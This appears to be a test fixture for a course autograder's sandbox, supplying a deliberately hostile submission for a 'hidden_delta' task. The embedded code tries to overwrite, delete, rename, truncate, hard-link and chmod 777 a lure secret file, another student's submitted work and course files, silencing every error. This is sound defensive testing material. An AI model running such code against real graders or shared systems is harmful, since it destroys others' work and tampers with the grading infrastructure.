"""Overwrites, deletes, renames and changes modes of what it can reach."""

FAILS = {"hidden_delta"}

SOURCE = """
import os, shutil

for path in (
    "$lure/secret.txt",
    "$classroom/submitted/ada",
    "/course/dlarch/plain.py",
    "$root/pyproject.toml",
):
    for act in (
        lambda: open(path, "w").close(),
        lambda: os.unlink(path),
        lambda: os.chmod(path, 0o777),
        lambda: os.rename(path, path + "x"),
        lambda: os.utime(path, (1, 1)),
        lambda: os.link(path, "/tmp/hostile"),
        lambda: os.truncate(path, 0),
    ):
        try:
            act()
        except OSError:
            pass


def hidden_delta(delta_next, W_next, h, h_next, activation):
    return np.zeros_like(h)
"""


def submit(work):
    work.answer("hidden_delta", SOURCE)
